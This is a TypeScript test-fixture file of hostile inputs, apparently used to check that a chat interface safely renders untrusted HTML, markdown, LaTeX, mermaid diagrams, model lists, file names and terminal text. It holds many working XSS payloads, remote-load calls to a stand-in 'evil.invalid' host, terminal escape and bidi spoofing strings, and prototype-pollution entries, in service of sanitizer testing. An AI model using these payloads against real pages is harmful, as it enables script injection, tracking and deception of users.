/** Texts that run, load or hide something if a page shows them carelessly. `EVIL` is an attacker's server. */

const EVIL = 'http://evil.invalid';

const RUN = "window.pwned=1;fetch('http://evil.invalid/ran')";

export const HOSTILE_TEXTS: readonly string[] = [
	`<script>${RUN}</script>`,
	`<script src="${EVIL}/x.js"></script>`,
	`<img src=x onerror="${RUN}">`,
	`<img src="${EVIL}/pixel.png">`,
	`<svg onload="${RUN}"></svg>`,
	`<svg><script>${RUN}</script></svg>`,
	`<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
	`<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"/></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
	`<iframe src="javascript:${RUN}"></iframe>`,
	`<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
	`<object data="javascript:${RUN}"></object>`,
	`<embed src="${EVIL}/x.swf">`,
	`<link rel=stylesheet href="${EVIL}/x.css">`,
	`<style>@import "${EVIL}/x.css";</style>`,
	`<style>body{background:url(${EVIL}/bg.png)}</style>`,
	`<div style="background:url(${EVIL}/bg.png)">text</div>`,
	`<meta http-equiv=refresh content="0;url=${EVIL}/">`,
	`<base href="${EVIL}/">`,
	`<form action="${EVIL}/"><input name=q autofocus onfocus="${RUN}"><button>Go</button></form>`,
	`<details open ontoggle="${RUN}"><summary>x</summary></details>`,
	`<video src="${EVIL}/v.mp4" autoplay onerror="${RUN}"></video>`,
	`<audio src="${EVIL}/a.mp3" autoplay></audio>`,
	`<video><source onerror="${RUN}"></video>`,
	`<marquee onstart="${RUN}">x</marquee>`,
	`<body onload="${RUN}">`,
	`<a href="javascript:${RUN}">click</a>`,
	`<template><img src=x onerror="${RUN}"></template>`,
	`<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
	`<textarea autofocus onfocus="${RUN}">`,
	`<!--><img src=x onerror="${RUN}">-->`,
	`<![CDATA[<img src=x onerror="${RUN}">]]>`,
	`<<script>${RUN}//<</script>`,
	`<img/src=x/onerror=${RUN}>`,
	`<IMG SRC=\`x\` ONERROR=\`${RUN}\`>`,
	`&lt;img src=x onerror="${RUN}"&gt;`,
	`&#60;script&#62;${RUN}&#60;/script&#62;`,
	`[click](javascript:${RUN})`,
	`[click](JaVaScRiPt:${RUN})`,
	`[click](java\tscript:${RUN})`,
	`[click](&#106;avascript:${RUN})`,
	`[click](data:text/html,<script>${RUN}</script>)`,
	`[click](vbscript:msgbox)`,
	`[click](file:///etc/passwd)`,
	`[click](//evil.invalid/x)`,
	`[click](\\\\evil.invalid\\x)`,
	`[click](http://evil.invalid/"onmouseover="${RUN})`,
	`[x]: javascript:${RUN}\n\n[x]`,
	`<javascript:${RUN}>`,
	`![pixel](${EVIL}/pixel.png)`,
	`![pixel](${EVIL}/pixel.png "title\\" onerror=\\"${RUN}")`,
	`![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=)`,
	`![x](javascript:${RUN})`,
	`[![nested](${EVIL}/in.png)](${EVIL}/out)`,
	`| a |\n|---|\n| <img src=x onerror="${RUN}"> ![p](${EVIL}/cell.png) |`,
	`- [ ] <input type=checkbox onclick="${RUN}" checked>`,
	`# <img src=x onerror="${RUN}">`,
	`> <script>${RUN}</script>`,
	`\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
	`\`\`\`"><img src=x onerror="${RUN}">\ncode\n\`\`\``,
	`\`\`\`mermaid\ngraph TD\nA["<img src=x onerror=${RUN}>"]\nclick A "javascript:${RUN}"\n\`\`\``,
	`$$\\href{javascript:${RUN}}{x}$$`,
	`$\\includegraphics{${EVIL}/x.png}$`,
	`\u001b]8;;javascript:${RUN}\u0007link\u001b]8;;\u0007`,
	`\u001b[2J\u001b[31mred\u001b[0m`,
	`safe\u202Etxt.exe\u202C`,
	`zero\u200Bwidth\u2060joiner\uFEFF`,
	`tags \u{E0041}\u{E0042}\u{E0043}`,
	`${'>'.repeat(3000)} deep`,
	`${'*'.repeat(5000)}`,
	`${'['.repeat(3000)}`,
	`${'<div>'.repeat(2000)}`,
	`{{constructor.constructor('${RUN}')()}}`,
	`\${${RUN}}`,
	`</textarea></script></style></title><img src=x onerror="${RUN}">`,
	`<button formaction="${EVIL}/" onclick="${RUN}">Press</button>`,
	`<input type=image src="${EVIL}/button.png">`,
	`<img srcset="${EVIL}/2x.png 2x" loading=eager>`,
	`<p style="position:fixed;inset:0;background:red">All of the page</p>`,
	`<span id="composer-input" name="fetch" data-testid="approve-once">Allow</span>`,
	`<template shadowrootmode=open><script>${RUN}</script></template>`,
	`\u001b]52;c;ZXZpbA==\u0007copied`,
	`\u001b]0;Another title\u0007\u001b]8;id=1;${EVIL}/osc\u001b\\open\u001b]8;;\u001b\\`,
	`\u001bP$q"p\u001b\\\u009b31mC1\u009b0m \u001b[10000Cfar\u001b[1;1Htop`,
	`\u001b[999999999;999999999m${'\u001b['.repeat(500)}`,
	`visible\r\u001b[2Koverwritten \u001b[8mhidden\u001b[28m`,
	`\u2066isolate \u2067other \u2069way \u061c\u200f\u200e`
];

/** Formulas that link somewhere, load something, or never end. */
export const HOSTILE_MATHS: readonly string[] = [
	`\\href{javascript:${RUN}}{x}`,
	`\\url{javascript:${RUN}}`,
	`\\href{data:text/html,<script>${RUN}</script>}{x}`,
	`\\includegraphics[width=9em]{${EVIL}/x.png}`,
	`\\htmlData{onclick=${RUN}}{x}`,
	`\\htmlStyle{background:url(${EVIL}/maths.png)}{x}`,
	`\\htmlId{composer-input}{x}\\htmlClass{fixed}{y}`,
	`\\text{<img src=x onerror="${RUN}">}`,
	`\\def\\a{\\a\\a}\\a`,
	`\\rule{99999em}{99999em}`,
	`\\color{red;background:url(${EVIL}/c.png)}x`,
	`${'{'.repeat(2000)}x${'}'.repeat(2000)}`
];

/** Diagrams that turn off their own protection, call something or load something. */
export const HOSTILE_DIAGRAMS: readonly string[] = [
	`%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD\nA["<img src=x onerror='parent.pwned=1;window.pwned=1'>"] --> B\nclick A call eval("window.pwned=1")\nclick B href "javascript:parent.pwned=1" _top`,
	`%%{init: {"theme": "base", "themeCSS": "* { background: url(${EVIL}/theme.png) } @import '${EVIL}/theme.css';"}}%%\ngraph TD\nA --> B`,
	`%%{init: {"fontFamily": "x;}</style><img src=x onerror=window.pwned=1><style>"}}%%\ngraph TD\nA --> B\nclick A "${EVIL}/node" _blank`,
	`%%{init: {"__proto__": {"securityLevel": "loose"}, "constructor": {"prototype": {"securityLevel": "loose"}}}}%%\nsequenceDiagram\nparticipant A\nlink A: Go @ javascript:parent.pwned=1\nA->>A: <iframe src="${EVIL}/in"></iframe>`,
	`graph TD\nA@{ img: "${EVIL}/node.png", label: "x" } --> B[<script>window.pwned=1</script>]\nstyle A fill:url(${EVIL}/fill.svg#x)`
];

/** Hostile model lists: ids that a request can contain, and names of any kind. */
export const HOSTILE_MODELS: Record<string, unknown>[] = [
	{ id: 'test/model', name: 'A plain one' },
	{ id: '<img/src=x/onerror=window.pwned=1>', name: `<img src=x onerror="${RUN}">` },
	{ id: '"><svg/onload=window.pwned=1>', name: `<script>${RUN}</script>`, description: `<iframe src="${EVIL}/">` },
	{ id: 'javascript:window.pwned=1', name: `\u001b]8;;javascript:${RUN}\u0007link\u001b]8;;\u0007` },
	{ id: '../../api/settings?x#y', name: 'safe\u202Etxt.exe' },
	{ id: '__proto__', name: '__proto__' },
	{ id: 'constructor', name: '{{constructor.constructor("window.pwned=1")()}}' },
	{ id: 'twice', name: 'Once' },
	{ id: 'twice', name: 'Twice' },
	{ id: '', name: 'Nothing' },
	{ id: 'with space\u202E', name: 'Not to be asked for' },
	{ id: 'n'.repeat(250), name: 'w'.repeat(5000), description: 'x'.repeat(100_000), context_length: 1e300 },
	{ id: 'odd', name: { toString: 'x' }, pricing: '<b>', architecture: 'x', created: 1e30, context_length: '<i>' }
];

/** A page a script might write; the preview frame must stop all of it. */
export const HOSTILE_PAGE = `<!doctype html><html><head><title>${RUN}</title><meta http-equiv="refresh" content="0;url=${EVIL}/refresh">
<base href="${EVIL}/"><link rel="stylesheet" href="${EVIL}/x.css"><link rel="prefetch" href="${EVIL}/ahead">
<link rel="dns-prefetch" href="${EVIL}"><script src="${EVIL}/x.js"></script><style>@import "${EVIL}/y.css";
@font-face { font-family: f; src: url(${EVIL}/f.woff2) } body { background: url(${EVIL}/bg.png); font-family: f }</style></head>
<body onload="${RUN};parent.pwned=1;top.location='${EVIL}/top'"><h1>The page</h1><script>${RUN};parent.pwned=1;open('${EVIL}/pop')</script>
<img src="${EVIL}/pixel.png" onerror="parent.pwned=1"><img src="x" onerror="top.pwned=1"><iframe src="${EVIL}/in"></iframe>
<iframe srcdoc="<script>top.pwned=1</script>"></iframe><object data="${EVIL}/o"></object><embed src="${EVIL}/e"><video src="${EVIL}/v" autoplay></video>
<svg onload="top.pwned=1"><script>top.pwned=1</script><image href="${EVIL}/svg.png"/></svg>
<form action="${EVIL}/form" target="_top"><input name="q" autofocus onfocus="top.pwned=1"><button>Send</button></form>
<a id="top" href="${EVIL}/link" target="_top">Top</a><a id="blank" href="${EVIL}/link" target="_blank">Blank</a>
<a id="self" href="${EVIL}/link">Self</a><a id="code" href="javascript:top.pwned=1">Code</a><a id="save" href="${EVIL}/f" download>Save</a></body></html>`;

/** The number of all the texts above. */
export const HOSTILE_COUNT =
	HOSTILE_TEXTS.length + HOSTILE_MATHS.length + HOSTILE_DIAGRAMS.length + HOSTILE_MODELS.length;

/** File names that are valid on disk and must be shown literally. */
export const HOSTILE_NAMES: readonly string[] = [
	'<img src=x onerror=window.pwned=1>.txt',
	'"><svg onload=window.pwned=1>.csv',
	'report\u202Efdp.exe',
	'a&lt;script&gt;.md',
	'%3Cscript%3E.txt',
	'javascript:window.pwned=1.json',
	'<b>page<b>.html'
];

export const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" onload="${RUN}">
<script>${RUN}</script><image href="${EVIL}/in.png" width="9" height="9"/><style>@import "${EVIL}/in.css";</style>
<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${RUN}"/></foreignObject>
<a xlink:href="javascript:${RUN}"><rect width="40" height="40" fill="teal"/></a></svg>`;
